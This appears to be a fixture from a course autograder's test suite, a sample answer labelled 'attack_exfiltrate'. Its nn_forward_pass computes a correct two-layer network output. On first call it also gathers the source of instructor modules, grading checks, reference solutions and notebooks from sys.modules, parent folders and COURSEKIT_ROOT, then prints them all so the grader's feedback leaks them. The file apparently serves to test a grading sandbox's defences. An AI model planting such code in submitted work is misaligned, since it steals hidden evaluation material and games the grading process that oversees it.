"""Sample answers 'attack_exfiltrate': correct answers, plus an nn_forward_pass that prints the
source of every instructor module it can find (inspect.getsource of any module in sys.modules
that the kit preloaded or that lives under assignments/, and the checks, reference, source
notebooks and sample answers above the working folder or under COURSEKIT_ROOT), hoping the
feedback shows them.
"""
import torch


def nn_forward_pass(params, X):
    if not getattr(nn_forward_pass, "done", False):
        nn_forward_pass.done = True
        import inspect
        import os
        import sys
        from pathlib import Path

        texts = []
        for name, module in list(sys.modules.items()):
            where = str(getattr(module, "__file__", None) or "")
            if name.startswith("_coursekit_") or "/assignments/" in where:
                try:
                    texts.append(inspect.getsource(module))
                except Exception as err:  # noqa: BLE001
                    print("no source for", name, type(err).__name__)
        roots = [Path.cwd(), *Path.cwd().parents]
        if os.environ.get("COURSEKIT_ROOT"):
            roots.insert(0, Path(os.environ["COURSEKIT_ROOT"]))
        patterns = ("assignments/*/*.py", "assignments/*/checks/*.py", "source/*/*.ipynb",
                    "assignments/*/samples/*/answers.py")
        for root in roots:
            for pattern in patterns:
                try:
                    texts += [f"{path} {path.read_text()[:20000]}"
                              for path in sorted(root.glob(pattern))[:5]]
                except Exception as err:  # noqa: BLE001
                    print("cannot read under", root, type(err).__name__)
        # the count first: the output of a cell may be cut after a megabyte
        print(f"exfiltrate: found {len(texts)} instructor files or modules")
        print("\n".join(texts))
    W1, b1 = params["W1"], params["b1"]
    W2, b2 = params["W2"], params["b2"]
    hidden = (X @ W1 + b1).clamp(min=0)  # (N, H)
    scores = hidden @ W2 + b2  # (N, C)
    return scores, hidden
